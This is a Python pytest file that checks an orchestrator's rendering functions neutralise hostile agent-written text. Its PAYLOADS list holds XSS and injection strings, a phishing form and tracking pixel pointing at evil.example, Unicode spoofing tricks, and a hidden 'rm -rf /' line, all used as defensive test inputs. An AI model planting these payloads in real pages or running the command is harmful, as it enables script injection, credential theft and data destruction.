"""What agents wrote is inert and cannot hide anything (SCENARIOS 58 and 59)."""

import re
from html.parser import HTMLParser

import pytest

from orchestrator import rendering

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "onerror": '<img src=x onerror="alert(1)">',
    "hx-get": '<div hx-get="/stop/" hx-trigger="load"></div>',
    "hx-on": '<b hx-on:click="alert(1)">x</b>',
    "hx-ws": '<div hx-ws:connect="wss://evil.example/"></div>',
    "out of band": '<div id="main" hx-swap-oob="true">owned</div>',
    "hx-partial": '<hx-partial hx-target="#main">x</hx-partial>',
    "form": '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    "style overlay": '<style>body{display:none}</style><div style="position:fixed;inset:0">x</div>',
    "svg": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "javascript link": "[click](javascript:alert(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "hidden scheme": "[click](java\tscript:alert(1))",
    "image": "![track](https://evil.example/pixel.png?secret=1)",
    "reference image": "![a][b]\n\n[b]: https://evil.example/p.png",
    "autolink": "<javascript:alert(1)>",
    "attribute break-out": '[x](https://a.example/"onmouseover="alert(1))',
    "escape codes": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J",
    "nested markdown": "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "partial tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
}
HARMLESS_TAGS = set(
    "p br hr h1 h2 h3 h4 h5 h6 strong em s code pre blockquote ul ol li a table thead tbody tr th td span".split()
)


class Inspector(HTMLParser):
    """Collects what a browser would make of a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.extend(attrs)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize("render", [rendering.markdown, rendering.reveal, rendering.json_text])
def test_render_hostile_text_leaves_nothing_that_acts(render, payload):  # type: ignore[no-untyped-def]
    found = Inspector(render(payload))

    assert found.tags <= HARMLESS_TAGS
    assert {name for name, _ in found.attributes} <= {"href", "rel", "class", "title", "start"}
    assert all(re.match(r"(https?|mailto):", value or "") for name, value in found.attributes if name == "href")
    assert all(value in {"revealed", "link-host"} for name, value in found.attributes if name == "class")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("rm \u202egpj.exe", "U+202E"),
        ("pay\u200bpal", "U+200B"),
        ("\u2066isolate\u2069", "U+2066"),
        ("tag\U000e0041", "U+E0041"),
        ("bell\x07", "U+0007"),
        ("soft\u00adhyphen", "U+00AD"),
        ("\ufeffbom", "U+FEFF"),
    ],
    ids=["right-to-left", "zero-width", "isolate", "tag", "control", "soft-hyphen", "byte-order-mark"],
)
def test_reveal_hidden_character_names_it(text, shown):  # type: ignore[no-untyped-def]
    for render in (rendering.reveal, rendering.markdown):
        found = render(text)

        assert f">{shown}</span>" in found
        assert not any(hidden in found for hidden in "\u202e\u200b\u2066\x07\u00ad\ufeff\U000e0041")


def test_reveal_lookalike_letter_in_latin_word_is_marked():
    assert "а U+0430" in rendering.reveal("pаypal")


def test_reveal_word_of_one_other_script_is_left_alone():
    assert rendering.reveal("Привет мир, αβγ") == "Привет мир, αβγ"


def test_reveal_emoji_and_umlauts_are_left_alone():
    assert rendering.reveal("Grüße ✔ 😀") == "Grüße ✔ 😀"


def test_reveal_thousands_of_blank_lines_are_counted():
    found = rendering.reveal("ok" + "\n" * 5_001 + "rm -rf /")

    assert "5,000 blank lines" in found
    assert found.count("\n") < 10


def test_markdown_link_names_the_host_it_leads_to():
    found = rendering.markdown("[your-bank.example](https://evil.example/login)")

    assert '<span class="link-host">(evil.example)</span>' in found
    assert 'rel="noopener noreferrer nofollow"' in found


def test_markdown_link_with_credentials_names_the_real_host():
    assert "(evil.example)" in rendering.markdown("[x](https://bank.example@evil.example/)")


def test_markdown_image_is_described_and_never_fetched():
    found = rendering.markdown("![track](https://evil.example/pixel.png)")

    assert "<img" not in found
    assert "[image: track, evil.example]" in found


def test_markdown_structure_survives():
    found = rendering.markdown("# Report\n\n| a | b |\n|---|---|\n| 1 | **2** |\n\n- x\n")

    assert "<h1>Report</h1>" in found
    assert "<table>" in found
    assert "<strong>2</strong>" in found


def test_plain_text_is_one_line_without_hidden_characters():
    assert rendering.plain("Isolate\n\nhost\u202e") == "Isolate host⟦U+202E⟧"


def test_reveal_text_beyond_the_limit_says_how_much_is_missing():
    assert "50 more characters are not shown" in rendering.reveal("x" * (rendering.MAX_TEXT + 50))
